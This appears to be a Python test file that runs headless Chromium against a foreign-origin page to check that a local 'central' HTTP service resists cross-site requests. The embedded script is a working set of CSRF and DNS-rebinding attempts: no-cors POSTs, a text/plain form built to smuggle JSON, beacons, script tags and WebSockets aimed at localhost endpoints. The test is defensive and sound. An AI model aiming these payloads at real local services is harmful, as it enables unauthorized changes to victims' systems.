"""A real browser with a page of somebody else open: it changes nothing at a central on its machine and reads nothing.

Skipped without Chromium, which is larger than everything else that the tests need.
"""

import http.server
import json
import os
import queue
import re
import shutil
import subprocess
import tempfile
import threading
import unittest

from lab import wait_until
from test_http import Central

CHROMIUM = next((path for path in map(shutil.which, ("chromium", "chromium-browser", "google-chrome")) if path), None)
# Each attempt gives what it could read, or throws. The page tells what came of all of them.
PAGE = """<!doctype html><title>foreign</title><body><script>
const patience = 3000, results = {}, made = (base) => `{"name":"made-by-${base.replace(/[^0-9a-z]/g, "-")}"}`
const later = (start) => new Promise((resolve, reject) => {
    setTimeout(() => reject("nothing came"), patience); start(resolve, reject) })
const ask = (url, options) => fetch(url, options).then((reply) => reply.text()).then((text) => text || Promise.reject("empty"))
const element = (name, members) => document.body.appendChild(Object.assign(document.createElement(name), members))
function form(base, method, path, type) {
    const frame = element("iframe", {name: `frame${Math.random()}`})
    const form = element("form", {method, action: base + path, enctype: type, target: frame.name})
    // In text/plain this is NAME=VALUE: JSON, if it is written so.
    form.appendChild(Object.assign(document.createElement("input"), {name: '{"name":"by-form","labels":{"a":"', value: '"}}'}))
    form.submit()
    return later((resolve) => { frame.onload = () => { try { resolve(frame.contentDocument.body.textContent) } catch {} } })
}
const attempts = {
    get: (base) => ask(base + "/v1/switches"),
    opaque: (base) => ask(base + "/v1/switches", {mode: "no-cors"}),
    blob: (base) => ask(base + "/v1/switches", {method: "POST", mode: "no-cors", body: new Blob([made(base)])}),
    text: (base) => ask(base + "/v1/switches", {method: "POST", mode: "no-cors", body: made(base)}),
    json: (base) => ask(base + "/v1/switches", {
        method: "POST", headers: {"Content-Type": "application/json"}, body: made(base)}),
    put: (base) => ask(base + "/v1/switches/put", {
        method: "PUT", headers: {"Content-Type": "application/json"}, body: "{}"}),
    deletion: (base) => ask(base + "/v1/switches/ls1", {method: "DELETE"}),
    bodiless: (base) => ask(base + "/v1/switches/ls1", {method: "POST", mode: "no-cors"}),
    beacon: (base) => {
        navigator.sendBeacon(base + "/v1/switches", new Blob([made(base)])); throw "sent" },
    form: (base) => form(base, "post", "/v1/switches", "text/plain"),
    formOfFiles: (base) => form(base, "post", "/v1/switches", "multipart/form-data"),
    formGet: (base) => form(base, "get", "/v1/switches", ""),
    script: (base) => later((resolve) => {
        window.onerror = () => {}; element("script", {src: base + "/v1/switches", onload: () => resolve("ran")}) }),
    image: (base) => later((resolve) => element("img", {src: base + "/v1/switches", onload: () => resolve("drawn")})),
    events: (base) => later((resolve, reject) => {
        const source = new EventSource(base + "/v1/changes")
        source.onopen = source.onmessage = () => resolve("open"); source.onerror = () => reject("error") }),
    socket: (base) => later((resolve, reject) => {
        const socket = new WebSocket(base.replace("http", "ws") + "/v1/changes")
        socket.onopen = () => resolve("open"); socket.onerror = () => reject("error") }),
}
const all = []
for (const base of BASES) for (const [name, attempt] of Object.entries(attempts)) all.push(
    Promise.resolve().then(() => attempt(base)).then(
        (text) => { results[`${name} ${base}`] = String(text) }, (error) => { results[`${name} ${base}`] = null }))
Promise.all(all).then(() => fetch("/report", {method: "POST", body: JSON.stringify(results)}))
</script>"""


class Foreign:
    """A site that shows a page and hears what it reports."""

    def __init__(self, page):
        self.reports = queue.Queue()
        reports = self.reports

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.answer(page if self.path == "/" else "")

            def do_POST(self):
                reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.answer("")

            def answer(self, text):
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def visit(self, names):
        """Opens the page under a foreign name; gives its report. `names` are others of this machine."""
        rules = ",".join(f"MAP {name} 127.0.0.1" for name in names)
        profile = tempfile.mkdtemp()
        browser = subprocess.Popen(
            [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync",
             "--disable-component-update", f"--user-data-dir={profile}", f"--host-resolver-rules={rules}",
             f"http://foreign.example:{self.server.server_port}/"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            return self.reports.get(timeout=120)
        finally:
            # It ends its own processes then, which write to its profile until they are gone.
            browser.terminate()
            browser.wait(60)
            wait_until(lambda: shutil.rmtree(profile, ignore_errors=True) or not os.path.exists(profile),
                       "the browser's profile is gone")

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@unittest.skipUnless(CHROMIUM, "no Chromium here: apt-get install chromium")
class BrowserTest(unittest.TestCase):
    def test_a_page_of_another_site_changes_nothing_and_reads_nothing(self):
        with Central() as central:
            central.create("/v1/switches", {"name": "ls1"})
            before = central.curl("/v1/changes?since=0")
            southbound = central.southbound.rsplit(":", 1)[1]
            bases = [f"http://{name}:{port}" for port in (central.port, southbound)
                     for name in ("127.0.0.1", "localhost", "rebound.example")]
            site = Foreign(PAGE.replace("BASES", json.dumps(bases)))
            try:
                results = site.visit(["foreign.example", "rebound.example"])
            finally:
                site.close()
            self.assertEqual({name for name, text in results.items() if text is not None}, set())
            self.assertEqual(len(results), len(bases) * 16)
            self.assertEqual(central.curl("/v1/changes?since=0"), before)
            # They did come: central has refused them.
            refused = dict(re.findall(
                r'^heddle_http_requests_total\{.*code="(4\d\d)"\} (\d+)', central.curl("/metrics"), re.M))
            self.assertGreater(int(refused["403"]), 0)     # a foreign page
            self.assertGreater(int(refused["421"]), 0)     # a foreign name
            # The same, said by somebody who may.
            central.create("/v1/switches", {"name": "made-by-us"})


if __name__ == "__main__":
    unittest.main()
